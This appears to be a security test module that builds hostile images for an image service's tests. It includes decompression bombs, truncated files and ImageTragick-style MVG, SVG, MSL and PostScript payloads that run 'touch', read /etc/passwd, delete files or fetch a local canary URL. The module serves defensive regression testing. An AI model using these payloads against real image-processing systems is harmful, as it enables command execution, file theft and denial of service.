"""Hostile sources built by the tests themselves, and the checks every answer to one must pass.

Nothing here is a binary blob of unknown origin: each payload is assembled from a few
lines of Python below, so a reader can see exactly what is being thrown at the service.
The e2e tests import the builders too (fixtures here are only visible under tests/security).
"""

from __future__ import annotations

import functools
import io
import json
import re
import socket
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from tests.conftest import photo_bytes

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
IMAGE_MAGIC = (b"\xff\xd8\xff", PNG_SIGNATURE, b"GIF87a", b"GIF89a", b"RIFF")
# What an error body must never show: internals, the engine, or upstream's own words.
LEAKS = ("traceback", "/usr/", "/work/", "site-packages", ".py", "magick", "wand", "libpng",
         "libjpeg", "upstream-secret")
VERSION = re.compile(rb"\d+\.\d+\.\d+")
ERROR_KEYS = {"success", "error", "message", "requestId"}
# Only GIF frame 0 has this colour: seeing it in the output proves frame 0 was rendered.
GIF_FIRST_FRAME = (40, 90, 160)
GIF_SIZE = (200, 150)
# Text-chunk bombs: 3 chunks of 256 MiB of zeros each, 770 KB on the wire.
BOMB_INFLATED = 256 * 1024 * 1024
BOMB_COPIES = 3
UPSTREAM_SECRET = "upstream-secret-4f1c: db01.internal /srv/doppel/app.py line 88"


# --- PNG -------------------------------------------------------------------------------

def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_ihdr(width: int, height: int, *, bit_depth: int = 8, colour_type: int = 2) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, colour_type,
                                          0, 0, 0))


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header (valid CRCs) claims width x height, with almost no pixel data."""
    return (PNG_SIGNATURE + png_ihdr(width, height)
            + png_chunk(b"IDAT", zlib.compress(bytes(64))) + png_chunk(b"IEND", b""))


@functools.cache
def png_bomb(side: int, *, colour_type: int = 0, bit_depth: int = 8, level: int = 9) -> bytes:
    """A side x side PNG of zeros that really inflates to every one of its pixels.

    Compressed row by row, so building it never holds the inflated image (225 MB for a
    15000 px grey square, which deflate squeezes into about 220 KB).
    """
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    row = bytes(1 + (side * channels * bit_depth + 7) // 8)  # filter byte + samples
    deflate = zlib.compressobj(level)
    idat = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    palette = png_chunk(b"PLTE", bytes(3 * 2)) if colour_type == 3 else b""
    return (PNG_SIGNATURE + png_ihdr(side, side, bit_depth=bit_depth, colour_type=colour_type)
            + palette + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def flat_png(width: int = 400, height: int = 300, colour=(90, 120, 160)) -> bytes:
    """An RGB PNG of one colour (as PIL writes it: IHDR, IDAT, IEND)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, "PNG")
    return out.getvalue()


def png_with_chunks(png: bytes, chunks: list[bytes]) -> bytes:
    """png with chunks inserted right after its IHDR (where text and profiles go)."""
    after_ihdr = len(PNG_SIGNATURE) + 25
    return png[:after_ihdr] + b"".join(chunks) + png[after_ihdr:]


@functools.cache
def zeros_deflated(size: int) -> bytes:
    """zlib stream of size zero bytes (about size / 1030 bytes), built in pieces."""
    deflate = zlib.compressobj(9)
    piece = bytes(1024 * 1024)
    return b"".join(deflate.compress(piece) for _ in range(size // len(piece))) + deflate.flush()


def text_chunk_bomb(kind: bytes, inflated: int) -> bytes:
    """A zTXt, iTXt or iCCP chunk whose zlib payload inflates to ``inflated`` bytes."""
    head = {b"zTXt": b"Comment\x00\x00",                  # keyword, method 0
            b"iTXt": b"Comment\x00\x01\x00en\x00\x00",      # compressed, language, no title
            b"iCCP": b"icc\x00\x00"}[kind]                   # profile name, method 0
    return png_chunk(kind, head + zeros_deflated(inflated))


def png_chunk_bomb(kind: bytes, inflated: int, copies: int) -> bytes:
    """A flat 400x300 PNG carrying ``copies`` chunks of kind, each inflating that much."""
    return png_with_chunks(flat_png(), [text_chunk_bomb(kind, inflated)] * copies)


def webp_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (400, 300), (90, 120, 160)).save(out, "WEBP", quality=80)
    return out.getvalue()


# --- JPEG ------------------------------------------------------------------------------

def jpeg_frame_header_offset(jpeg: bytes) -> int:
    """Offset of the SOF0/SOF2 marker: everything before it is the header proper."""
    offsets = [jpeg.find(marker) for marker in (b"\xff\xc0", b"\xff\xc2")]
    return min(offset for offset in offsets if offset > 0)


# --- GIF -------------------------------------------------------------------------------

@functools.cache
def many_frame_gif(frames: int = 200) -> bytes:
    """frames flat frames; frame 0 is GIF_FIRST_FRAME, every other one a different colour."""
    colours = [GIF_FIRST_FRAME] + [(200, (7 * i) % 256, (13 * i) % 256) for i in range(1, frames)]
    images = [Image.new("RGB", GIF_SIZE, colour) for colour in colours]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=20, loop=0)
    return out.getvalue()


def _gif_blocks_end_of_first_frame(gif: bytes) -> int:
    flags = gif[10]
    pos = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    while gif[pos] == 0x21:  # extensions before the frame: label, then sub-blocks
        pos += 2
        while gif[pos]:
            pos += gif[pos] + 1
        pos += 1
    assert gif[pos] == 0x2C, "expected the first image descriptor"
    flags = gif[pos + 9]
    pos += 10 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)
    pos += 1  # LZW minimum code size
    while gif[pos]:
        pos += gif[pos] + 1
    return pos + 1


def cut_first_frame(gif: bytes) -> bytes:
    """gif cut in the middle of its first frame's image data."""
    return gif[:_gif_blocks_end_of_first_frame(gif) - 40]


def gif_with_huge_second_frame(gif: bytes) -> bytes:
    """gif with a 65535 x 65535 frame (a local 2-colour table, an empty LZW stream) second."""
    huge = (b"\x2c" + struct.pack("<HHHH", 0, 0, 0xFFFF, 0xFFFF) + b"\x80" + bytes(6)
            + b"\x02\x01\x2c\x00")  # code size 2; one sub-block: CLEAR, END; terminator
    cut = _gif_blocks_end_of_first_frame(gif)
    return gif[:cut] + huge + gif[cut:]


# --- script payloads: every coder that can read files, run programs or fetch URLs -------

@dataclass(frozen=True)
class Traps:
    """What a payload that got executed would touch: checked after every request."""

    marker: Path      # payloads try to create this file
    victim: Path      # payloads try to delete or read this file
    canary_url: str   # payloads try to fetch from here

    @classmethod
    def laid_in(cls, folder: Path, canary: Canary) -> Traps:
        victim = folder / "victim.txt"
        victim.write_text("must survive\n")
        return cls(marker=folder / "pwned", victim=victim,
                   canary_url=f"http://127.0.0.1:{canary.port}")

    def sprung(self, canary: Canary) -> list[str]:
        found = []
        if self.marker.exists():
            found.append(f"{self.marker} was created")
        if not self.victim.exists():
            found.append(f"{self.victim} was deleted")
        if canary.contacted():
            found.append(f"{self.canary_url} was contacted")
        return found


class Canary:
    """A listening socket nobody should ever connect to; payloads point their URLs here.

    The kernel completes handshakes into the backlog without accept(), so a pending
    connection is proof that something in the service dialled out.
    """

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]

    def contacted(self) -> bool:
        try:
            conn, _ = self.sock.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True

    def close(self) -> None:
        self.sock.close()


def script_payloads(traps: Traps) -> dict[str, bytes]:
    """ImageTragick-style payloads (CVE-2016-3714 to -3718 and kin), as upstream bodies."""
    url = traps.canary_url
    marker, victim = traps.marker, traps.victim
    mvg_pipe = (f"push graphic-context\nviewbox 0 0 640 480\n"
                f"fill 'url({url}/x.jpg\"|touch \"{marker})'\npop graphic-context\n")
    svg = (f'<?xml version="1.0" standalone="no"?>\n'
           f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
           f' width="640" height="480">\n'
           f'<image xlink:href="text:/etc/passwd" x="0" y="0" width="640" height="480"/>\n'
           f'<image xlink:href="{url}/svg.png" x="0" y="0" width="10" height="10"/>\n'
           f'<image xlink:href="msl:{victim}" x="0" y="0" width="10" height="10"/>\n</svg>\n')
    msl = (f'<?xml version="1.0" encoding="UTF-8"?>\n<image>\n<read filename="/etc/passwd"/>\n'
           f'<write filename="{marker}"/>\n</image>\n')
    ephemeral = (f"push graphic-context\nviewbox 0 0 640 480\n"
                 f"image over 0,0 0,0 'ephemeral:{victim}'\npop graphic-context\n")
    msl_via_mvg = (f"push graphic-context\nviewbox 0 0 640 480\n"
                   f"image over 0,0 0,0 'msl:{victim}'\npop graphic-context\n")
    postscript = (f"%!PS-Adobe-3.0\n/f ({marker}) (w) file def\nf (pwned) writestring\n"
                  f"f closefile\n(%pipe%touch {marker}) (w) file\nshowpage\n")
    payloads = {
        "mvg url pipe": mvg_pipe,
        "svg text: and url images": svg,
        "msl read and write": msl,
        "mvg ephemeral delete": ephemeral,
        "mvg msl include": msl_via_mvg,
        "text: coder": "text:/etc/passwd",
        "label: file include": "label:@/etc/passwd",
        "url: fetch": f"url:{url}/fetch.png",
        "postscript file write": postscript,
        "pipe filename": f"|touch {marker}",
        "data uri": "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    }
    return {name: text.encode() for name, text in payloads.items()}


# --- the corpus ------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One hostile upstream body and what /api/image must answer to it."""

    body: bytes
    status: int
    error: str | None = None   # the JSON error code; None for a 200
    format: str = "webp"       # requested output; 200 cases ask for lossless png to inspect


def hostile_corpus(traps: Traps) -> dict[str, Case]:
    """Every hostile body, keyed by a readable name; bodies stay under 1 MiB."""
    photo = photo_bytes()
    scripts = script_payloads(traps)
    frame_at = jpeg_frame_header_offset(photo)
    gif = many_frame_gif()
    too_large = ("image_too_large", 413)
    unsupported = ("unsupported_image", 422)
    cases = {
        "png header claims 100000x100000": (png_claiming(100_000, 100_000), *too_large),
        "png grey bomb 15000x15000": (png_bomb(15_000), *too_large),
        "png 1-bit bomb 15000x15000": (png_bomb(15_000, bit_depth=1), *too_large),
        "png header claims 16001x1": (png_claiming(16_001, 1), *too_large),
        "empty body": (b"", *unsupported),
        "jpeg cut inside its frame header": (photo[:frame_at + 5], *unsupported),
        "jpeg cut before its frame header": (photo[:frame_at], *unsupported),
        "png magic then garbage": (PNG_SIGNATURE + bytes(range(256)) * 8, *unsupported),
        "png magic then mvg": (PNG_SIGNATURE + scripts["mvg url pipe"], *unsupported),
        # A real IHDR, so this one reaches ImageMagick's PNG decoder (forced, never MVG).
        "png header then mvg as pixel data": (
            PNG_SIGNATURE + png_ihdr(64, 64)
            + png_chunk(b"IDAT", scripts["mvg url pipe"])
            + png_chunk(b"IEND", b""), *unsupported),
        "jpeg magic then svg": (b"\xff\xd8\xff" + scripts["svg text: and url images"],
                                *unsupported),
        "gif magic then mvg": (b"GIF89a" + scripts["mvg url pipe"], *unsupported),
    }
    for name, payload in scripts.items():
        cases[name] = (payload, *unsupported)
    # Cut or corrupt after a whole header: a decoder would fill the rest with grey.
    partial = ("upstream_error", 502)
    png = flat_png()
    webp = webp_bytes()
    cases.update({
        "jpeg cut at half its bytes": (photo[:len(photo) // 2], *partial),
        "jpeg cut at half, then an end marker": (photo[:len(photo) // 2] + b"\xff\xd9",
                                                 *partial),
        "png cut inside its pixel data": (png[:len(png) - 40], *partial),
        "png without its end chunk": (png[:-12], *partial),
        "gif cut inside its first frame": (cut_first_frame(gif), *partial),
        "webp cut at half its bytes": (webp[:len(webp) // 2], *partial),
    })
    corpus = {name: Case(body, status, error) for name, (body, error, status) in cases.items()}
    # Text and profile chunks inflating far beyond the file: dropped before decoding.
    for kind in (b"zTXt", b"iTXt", b"iCCP"):
        corpus[f"png {kind.decode()} bomb"] = Case(
            png_chunk_bomb(kind, BOMB_INFLATED, BOMB_COPIES), 200, format="png")
    corpus["gif with 200 frames"] = Case(gif, 200, format="png")
    corpus["gif with a 65535x65535 second frame"] = Case(gif_with_huge_second_frame(gif), 200,
                                                         format="png")
    return corpus


def corpus_names() -> list[str]:
    """The corpus' case names, for parametrize: traps change bodies, never names."""
    placeholder = Traps(Path("/nonexistent/pwned"), Path("/nonexistent/victim"),
                        "http://127.0.0.1:9")
    return list(hostile_corpus(placeholder))


def oversize_png(size: int) -> bytes:
    """size bytes that start like a small, valid PNG: only the byte cap can stop them."""
    head = PNG_SIGNATURE + png_ihdr(64, 64)
    return head + bytes(size - len(head))


# --- checks ----------------------------------------------------------------------------

def leaks_in(body: bytes) -> list[str]:
    lowered = body.lower()
    found = [word for word in LEAKS if word.encode() in lowered]
    found += [match.decode() for match in VERSION.findall(body)]
    return found


def check_error(status: int, headers, body: bytes, case: Case) -> dict:
    """The contract's JSON error, the expected status, no image bytes, nothing leaked."""
    assert status == case.status, f"status {status}, expected {case.status}: {body[:300]!r}"
    assert not body.startswith(IMAGE_MAGIC), f"image bytes in an error: {body[:16]!r}"
    assert headers["Content-Type"] == "application/json", headers["Content-Type"]
    document = json.loads(body)
    assert set(document) - {"details"} == ERROR_KEYS, document
    assert document["success"] is False
    assert document["error"] == case.error, document
    assert isinstance(document["requestId"], str) and document["requestId"], document
    assert headers.get("X-Request-ID") == document["requestId"]
    assert "no-store" in headers.get("Cache-Control", ""), headers.get("Cache-Control")
    assert not leaks_in(body), f"leaks {leaks_in(body)} in {body!r}"
    return document


def spread(pixels: np.ndarray) -> int:
    """The largest range of any one channel: colour differences between channels don't count."""
    return int((pixels.max(axis=(0, 1)) - pixels.min(axis=(0, 1))).max())


def check_watermarked_still(body: bytes, fmt: str, *, flat: tuple[int, int, int] | None = None,
                            max_width: int) -> np.ndarray:
    """A still image in fmt whose bottom strip is flat on the left and marked on the right.

    Both 200 sources here leave that strip flat (libjpeg fills a truncated scan with mid
    grey; GIF frame 0 is one colour), so a bottom-right mark is the watermark and nothing
    else. With ``flat`` the top-left pixel must be that colour (frame 0, not a later one).
    """
    assert not leaks_in(body), f"leaks {leaks_in(body)} in the image bytes"
    with Image.open(io.BytesIO(body)) as img:
        assert img.format.lower() == fmt, img.format
        assert getattr(img, "n_frames", 1) == 1 and not getattr(img, "is_animated", False)
        assert img.width <= max_width
        pixels = np.asarray(img.convert("RGB")).astype(int)
    height, width = pixels.shape[:2]
    strip = pixels[height * 88 // 100:]
    left, right = strip[:, :width // 4], strip[:, width // 2:]
    assert spread(left) <= 3, f"the bottom-left corner is not flat (spread {spread(left)})"
    assert spread(right) > 100, "no watermark in the bottom-right corner"
    if flat is not None:
        assert tuple(pixels[2, 2]) == flat, f"top-left {tuple(pixels[2, 2])}, not frame 0"
    return pixels


# --- fixtures --------------------------------------------------------------------------

@pytest.fixture(scope="session")
def corpus(traps) -> dict[str, Case]:
    return hostile_corpus(traps)
